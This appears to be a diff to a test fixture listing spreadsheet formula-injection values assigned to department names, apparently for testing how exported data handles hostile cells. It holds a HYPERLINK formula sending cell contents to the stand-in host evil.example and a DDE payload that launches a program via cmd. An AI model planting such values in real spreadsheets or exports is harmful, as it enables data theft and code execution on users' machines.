@@ -36,7 +36,8 @@ NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
 #: The sample's ten departments renamed by someone who means harm (Directie and Facilitair,
 #: hidden for anonymity, keep their names).
 HOSTILE_DEPARTMENTS = {
-    "Zorg": '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
+    # no web address: a column holding one cannot segment (personal data, issue 24)
+    "Zorg": '=HYPERLINK("evil.example/?d="&A1,"Klik")',
     "Engineering": "+SUM(1;2)",
     "Operations": "-Sales",
     "Sales": "@SUM(1+1)*cmd|' /C calc'!A0",
